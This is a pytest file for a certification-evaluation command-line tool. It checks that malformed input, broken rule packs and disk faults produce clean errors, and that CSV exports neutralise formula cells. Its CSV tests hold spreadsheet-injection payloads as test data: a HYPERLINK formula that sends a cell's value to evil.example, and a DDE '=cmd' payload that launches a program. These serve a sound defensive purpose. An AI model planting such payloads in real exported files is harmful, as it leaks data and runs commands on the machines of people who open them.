"""Issue 12: hostile input, broken packs and file-system faults keep the promises of SPEC §5.

Bad input exits 2 with file:line, a broken pack exits 3 and is never half-loaded, exit 4 is
only for a bug, and nothing is half-written.  Each test here failed on the code before the fix.
"""

from __future__ import annotations

import csv
import io
import json
import os
import resource
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml
from helpers import CERTEVAL, EXAMPLES, TRACEBACK, run_cli

from evaluator.base.errors import PackError
from evaluator.outputs.cells import neutralise_cell
from evaluator.outputs.tables import render_rows
from evaluator.packs import load_pack
from evaluator.packs.loader import builtin_root

NJ = EXAMPLES / "nj-surveillance-overdue.yaml"
SZ = EXAMPLES / "sz-application-missing-documents.yaml"
HZ = EXAMPLES / "hz-initial-three-star.yaml"
FAR = "9999-12-31"


def edited(tmp_path: Path, source: Path, old: str, new: str, name: str = "case.yaml") -> Path:
    text = source.read_text(encoding="utf-8")
    assert old in text, old
    target = tmp_path / name
    target.write_text(text.replace(old, new, 1), encoding="utf-8")
    return target


def as_json(tmp_path: Path, source: Path, name: str = "case.json") -> Path:
    doc = json.loads(json.dumps(yaml.safe_load(source.read_text(encoding="utf-8")), default=str))
    target = tmp_path / name
    target.write_text(json.dumps(doc, ensure_ascii=True), encoding="utf-8")
    return target


def bad_input(result: subprocess.CompletedProcess[str], *needles: str, status: int = 2) -> str:
    assert result.returncode == status, result.stderr
    assert TRACEBACK not in result.stderr and "internal error" not in result.stderr
    for needle in needles:
        assert needle in result.stderr, result.stderr
    return result.stderr


# ------------------------------------------------------------------------------- extreme dates
@pytest.mark.parametrize(
    "command",
    [
        ["evaluate", NJ],
        ["explain", NJ, "SURV-OVERDUE"],
        ["report", NJ, "--kind", "summary"],
        ["batch", NJ],
    ],
    ids=["evaluate", "explain", "report", "batch"],
)
def test_an_as_of_far_in_the_future_is_bad_usage(command, tmp_path):
    extra = ["--out", tmp_path / "out"] if command[0] in ("report", "batch") else []
    bad_input(run_cli(*command, *extra, "--as-of", FAR), "outside the meaningful range")
    assert not (tmp_path / "out").exists()


def test_a_case_as_of_far_in_the_future_names_the_field(tmp_path):
    case = edited(tmp_path, NJ, "as_of: 2026-05-06", f"as_of: {FAR}")
    bad_input(run_cli("evaluate", case), f"{case}:5: as_of: {FAR} is outside")


def test_year_one_is_bad_input_not_a_crash_in_month_arithmetic(tmp_path):
    case = edited(tmp_path, SZ, "  date: 2026-09-28", "  date: 0001-01-01")
    bad_input(run_cli("evaluate", case), "application.date: 0001-01-01 is outside")


def test_register_due_within_is_bounded(tmp_path):
    db = tmp_path / "r.db"
    assert run_cli("evaluate", NJ, "--record", "--db", db).returncode == 1
    bad_input(run_cli("register", "due", "--within", "99999999", "--db", db), "--within")


# ----------------------------------------------------------------------------- size and shape
def test_deep_json_is_bad_input_like_deep_yaml(tmp_path):
    for suffix in (".json", ".yaml"):
        path = tmp_path / f"deep{suffix}"
        path.write_text('{"case_id": ' + "[" * 10_000 + "]" * 10_000 + "}", encoding="utf-8")
        bad_input(run_cli("evaluate", path), f"{path}:1:")


def test_json_nested_past_the_limit_names_the_limit(tmp_path):
    path = tmp_path / "deep.json"
    path.write_text('{"case_id": ' + "[" * 100 + "]" * 100 + "}", encoding="utf-8")
    bad_input(run_cli("evaluate", path), f"{path}:1: nested more than 64 levels deep")


def test_a_huge_integer_is_bounded_as_input(tmp_path):
    case = edited(tmp_path, SZ, "trained_managers: 1", "trained_managers: " + "9" * 5001)
    bad_input(run_cli("evaluate", case), f"{case}:20: a number of 5001 characters is too long")
    path = as_json(tmp_path, NJ)
    path.write_text(path.read_text().replace('{"case_id"', '{"x": ' + "9" * 5001 + ', "case_id"', 1))
    bad_input(run_cli("evaluate", path), f"{path}:1: a number of 5001 characters is too long")


@pytest.mark.parametrize("suffix", [".yaml", ".json"])
def test_a_list_of_a_million_items_is_too_long_not_an_alias_bomb(tmp_path, suffix):
    path = tmp_path / f"long{suffix}"
    path.write_text('{"case_id": "X", "incidents": [' + ",".join(["1"] * 1_000_000) + "]}")
    stderr = bad_input(run_cli("evaluate", path), "a list of more than 10000 items is too long")
    assert "alias" not in stderr


# ------------------------------------------------------------------------ characters and text
@pytest.mark.parametrize("fmt", ["json", "html", "markdown", "text"])
def test_a_lone_surrogate_is_refused_at_load(tmp_path, fmt):
    path = as_json(tmp_path, NJ)
    path.write_text(path.read_text().replace('"name": "', '"name": "\\ud800', 1))
    bad_input(run_cli("evaluate", path, "--format", fmt), f"{path}:1: a lone surrogate U+D800")


def test_a_lone_surrogate_in_a_nonconformity_statement_is_refused(tmp_path):
    path = as_json(tmp_path, HZ)
    path.write_text(path.read_text().replace('"statement": "', '"statement": "\\ud800', 1))
    bad_input(run_cli("evaluate", path), "a lone surrogate U+D800")


def test_a_surrogate_pair_is_a_character(tmp_path):
    path = as_json(tmp_path, NJ)
    path.write_text(path.read_text().replace('"name": "', '"name": "\\ud83d\\ude00', 1))
    result = run_cli("evaluate", path, "--format", "markdown")
    assert result.returncode == 1, result.stderr
    assert "\U0001f600南京" in result.stdout


@pytest.mark.parametrize(
    "written",
    ['"\\e[31m南京"', '"\\x07南京"', "\x07南京", "\x1b[31m南京", "南京\x00"],
    ids=["yaml-escape-esc", "yaml-escape-bel", "raw-bel", "raw-esc", "raw-nul"],
)
def test_control_characters_are_refused_with_their_line(tmp_path, written):
    case = edited(tmp_path, NJ, "  name: 南京玄武智能楼宇设备有限公司", f"  name: {written}")
    bad_input(run_cli("evaluate", case), f"{case}:8: the control character U+00")


def test_a_json_escape_of_a_control_character_is_refused(tmp_path):
    path = as_json(tmp_path, NJ)
    path.write_text(path.read_text().replace('"name": "', '"name": "\\u001b[31m', 1))
    bad_input(run_cli("evaluate", path), f"{path}:1: the control character U+001B")


def test_crlf_line_endings_read_as_lf(tmp_path):
    path = tmp_path / "crlf.yaml"
    path.write_bytes(NJ.read_bytes().replace(b"\n", b"\r\n"))
    crlf = run_cli("evaluate", path, "--format", "json")
    lf = run_cli("evaluate", NJ, "--format", "json")
    assert crlf.returncode == lf.returncode == 1
    assert json.loads(crlf.stdout) | {"source": None} == json.loads(lf.stdout) | {"source": None}


def test_text_output_escapes_bidi_controls_of_case_text(tmp_path):
    case = edited(tmp_path, HZ, "statement: 未进行", "statement: \u202e未进行")
    result = run_cli("evaluate", case, "--format", "text")
    assert result.returncode in (0, 1), result.stderr
    assert "\u202e" not in result.stdout
    assert "\\u202e未进行" in result.stdout


# ------------------------------------------------------------------------------ output faults
@pytest.mark.parametrize("command", ["evaluate", "report"])
def test_an_empty_out_is_refused(tmp_path, command):
    args = ["--kind", "summary"] if command == "report" else ["--format", "json"]
    bad_input(run_cli(command, NJ, *args, "--out", "", cwd=tmp_path), "--out")
    assert list(tmp_path.iterdir()) == []


def out_args(command: str) -> list[str]:
    return ["--kind", "summary"] if command == "report" else ["--format", "json"]


@pytest.mark.parametrize("command", ["evaluate", "report"])
def test_out_below_a_file_or_at_dev_null_is_bad_output(tmp_path, command):
    (tmp_path / "afile").write_text("x")
    bad_input(
        run_cli(command, NJ, *out_args(command), "--out", tmp_path / "afile" / "sub"),
        f"{tmp_path / 'afile' / 'sub'}: cannot create the directory: Not a directory (ENOTDIR)",
    )
    bad_input(
        run_cli(command, NJ, *out_args(command), "--out", "/dev/null"), "/dev/null: cannot write into it"
    )


@pytest.fixture
def small_tmpfs(tmp_path):
    """A 64 kB tmpfs (CI runs as root, where chmod cannot make a directory read-only)."""
    mount = tmp_path / "mnt"
    mount.mkdir()
    if (
        shutil.which("mount") is None
        or subprocess.run(
            ["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(mount)], capture_output=True
        ).returncode
    ):
        pytest.skip("mounting a tmpfs is not permitted here")
    yield mount
    subprocess.run(["umount", str(mount)], check=True)


@pytest.mark.parametrize("command", ["evaluate", "report"])
def test_a_read_only_out_is_bad_output_naming_the_path(small_tmpfs, command):
    subprocess.run(["mount", "-o", "remount,ro", str(small_tmpfs)], check=True)
    stderr = bad_input(run_cli(command, NJ, *out_args(command), "--out", small_tmpfs), str(small_tmpfs))
    assert "Read-only file system (EROFS)" in stderr
    assert list(small_tmpfs.iterdir()) == []


@pytest.mark.parametrize("command", ["evaluate", "report"])
def test_a_full_disk_is_bad_output_and_leaves_nothing_half_written(small_tmpfs, command):
    fd = os.open(small_tmpfs / "filler", os.O_WRONLY | os.O_CREAT)
    with pytest.raises(OSError):
        while True:
            os.write(fd, b"x" * 4096)
    os.close(fd)
    stderr = bad_input(run_cli(command, NJ, *out_args(command), "--out", small_tmpfs), str(small_tmpfs))
    assert "No space left on device (ENOSPC)" in stderr
    assert [p.name for p in small_tmpfs.iterdir()] == ["filler"]


def test_a_file_size_limit_is_bad_output(tmp_path):
    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (1024, 1024))

    result = subprocess.run(
        [CERTEVAL, "evaluate", str(HZ), "--format", "html", "--out", str(tmp_path)],
        capture_output=True,
        text=True,
        preexec_fn=limit,
    )
    bad_input(result, "File too large (EFBIG)")
    assert list(tmp_path.iterdir()) == []


# ---------------------------------------------------------------------------------------- packs
def pack_copy(tmp_path: Path) -> Path:
    target = tmp_path / "pack"
    shutil.copytree(builtin_root() / "gbt27922-2011", target, ignore=shutil.ignore_patterns("fixtures"))
    return target


def pack_edit(tmp_path: Path, old: str, new: str) -> Path:
    pack = pack_copy(tmp_path)
    text = (pack / "pack.yaml").read_text(encoding="utf-8")
    assert old in text, old
    (pack / "pack.yaml").write_text(text.replace(old, new, 1), encoding="utf-8")
    return pack


def pack_problems(pack: Path) -> str:
    with pytest.raises(PackError) as info:
        load_pack(pack)
    return "\n".join(map(str, info.value.problems))


def test_an_empty_rule_file_fails_the_load(tmp_path):
    pack = pack_copy(tmp_path)
    (pack / "rules" / "eligibility.yaml").write_text("")
    assert "rules/eligibility.yaml: the rule file is empty" in pack_problems(pack)
    result = run_cli("evaluate", NJ, "--pack", pack)
    assert result.returncode == 3 and "CERT-" not in result.stdout


def test_a_renamed_rule_file_fails_the_load(tmp_path):
    pack = pack_copy(tmp_path)
    (pack / "rules" / "certificate.yaml").rename(pack / "rules" / "certificate.yml")
    problems = pack_problems(pack)
    assert "rule_files: rules/certificate.yaml is declared but missing" in problems
    assert "rules/certificate.yml: a rule file that" in problems


def test_yml_is_accepted_like_yaml_when_declared(tmp_path):
    pack = pack_edit(tmp_path, "  - certificate.yaml\n", "  - certificate.yml\n")
    (pack / "rules" / "certificate.yaml").rename(pack / "rules" / "certificate.yml")
    assert {r.id for r in load_pack(pack).rules} == {r.id for r in load_pack("gbt27922-2011").rules}


def test_a_deleted_rules_directory_fails_the_load(tmp_path):
    pack = pack_copy(tmp_path)
    shutil.rmtree(pack / "rules")
    assert "pack.yaml:18: rule_files: rules/certificate.yaml is declared but missing" in pack_problems(pack)


def test_a_directory_named_like_a_rule_file_fails_the_load(tmp_path):
    pack = pack_edit(tmp_path, "  - certificate.yaml\n", "  - certificate.yaml\n  - zz.yaml\n")
    (pack / "rules" / "zz.yaml").mkdir()
    assert "rule_files: rules/zz.yaml is not a file" in pack_problems(pack)


def test_a_child_keeps_every_parent_rule(tmp_path):
    child = tmp_path / "child"
    shutil.copytree(builtin_root() / "gbt27922-1000", child)
    loaded = load_pack(child)
    assert {r.id for r in load_pack("gbt27922-2011").rules} <= {r.id for r in loaded.rules}


BROKEN_PACKS = {
    "self-reference": (
        "    for_each: change\n    when:\n      any:\n",
        "    for_each: change\n    when:\n      any:\n        - {ref: triggering_change}\n",
        "predicates.triggering_change: the predicate refers to itself",
    ),
    "5000-digit-parameter": (
        "major_days:\n    value: 30",
        "major_days:\n    value: " + "9" * 5000,
        "a number of 5000 characters is too long",
    ),
    "all-480-deep": (
        "      - {fact: change.notified, op: eq, value: false}",
        "      - " + "{all: [" * 480 + "{fact: change.notified, op: eq, value: false}" + "]}" * 480,
        "nested more than 64 levels deep",
    ),
    "major-days-3000000": (
        "major_days:\n    value: 30",
        "major_days:\n    value: 3000000",
        "parameters.major_days: 3000000 is out of range",
    ),
    "validity-100000000": (
        "validity_months:\n    value: 36",
        "validity_months:\n    value: 100000000",
        "parameters.validity_months: 100000000 is out of range",
    ),
    "validity-negative": (
        "validity_months:\n    value: 36",
        "validity_months:\n    value: -36",
        "parameters.validity_months: -36 is out of range",
    ),
    "grade-195-of-100": (
        "{id: five_star, min: 95,",
        "{id: five_star, min: 195,",
        "tables.grades.rows.five_star.min: 195 is outside the scale of 100 points",
    ),
    "maxima-sum-105": (
        "system: {max: 40,",
        "system: {max: 45,",
        "the category maxima add up to 105 (45 + 35 + 25), not the scale of 100",
    ),
    "weak-ratio-above-one": (
        "weak_ratio:\n    value: 0.6",
        "weak_ratio:\n    value: 6",
        "parameters.weak_ratio: 6 is out of range",
    ),
}


@pytest.mark.parametrize("name", BROKEN_PACKS)
def test_broken_and_absurd_packs_exit_3_with_file_and_line(tmp_path, name):
    old, new, message = BROKEN_PACKS[name]
    pack = pack_edit(tmp_path, old, new)
    result = run_cli("evaluate", NJ, "--pack", pack)
    stderr = bad_input(result, message, status=3)
    assert f"{pack / 'pack.yaml'}:" in stderr or f"{pack.name}/pack.yaml:" in stderr


def test_a_child_pack_is_blamed_for_its_own_absurd_value(tmp_path):
    child = tmp_path / "child"
    shutil.copytree(builtin_root() / "gbt27922-1000", child)
    text = (child / "pack.yaml").read_text(encoding="utf-8")
    (child / "pack.yaml").write_text(text.replace("{id: five_star, min: 950,", "{id: five_star, min: 1950,"))
    assert "child/pack.yaml:" in pack_problems(child).split("tables.grades")[0]


# --------------------------------------------------------------------------------- CSV safety
@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "+1+1",
        "=1+1",
        "-1+1",
        "\t=1",
        "\r=1",
    ],
)
def test_csv_cells_that_start_a_formula_are_neutralised(cell):
    assert neutralise_cell(cell) == "'" + cell
    row = next(
        csv.reader(io.StringIO(render_rows([{"a": cell}], ["a"], "csv").lstrip("\ufeff").split("\n", 1)[1]))
    )
    assert row == ["'" + cell]


@pytest.mark.parametrize("cell", ["-5", "+3", "-0.5", "南京", "FW-NJ-1", ""])
def test_plain_numbers_and_text_stay_as_they_are(cell):
    assert neutralise_cell(cell) == cell


def test_register_due_csv_and_json_of_a_formula_name(tmp_path):
    name = '=HYPERLINK("http://evil.example/","click")'
    case = edited(tmp_path, NJ, "  name: 南京玄武智能楼宇设备有限公司", f"  name: '{name}'")
    db = tmp_path / "r.db"
    assert run_cli("evaluate", case, "--record", "--db", db).returncode == 1
    out = run_cli("register", "due", "--format", "csv", "--db", db, "--as-of", "2026-05-06").stdout
    rows = list(csv.reader(io.StringIO(out.lstrip("\ufeff"))))
    assert "'" + name in rows[1]
    out = run_cli("register", "due", "--format", "json", "--db", db, "--as-of", "2026-05-06").stdout
    assert json.loads(out)[0]["organization"] == name


def test_batch_summary_csv_is_neutralised(tmp_path):
    case = edited(tmp_path, NJ, "  name: 南京玄武智能楼宇设备有限公司", "  name: '@SUM(1+1)'")
    assert run_cli("batch", case, "--out", tmp_path / "out", "--jobs", "1").returncode == 1
    rows = list(csv.reader(io.StringIO((tmp_path / "out" / "summary.csv").read_text("utf-8-sig"))))
    assert "'@SUM(1+1)" in rows[1]
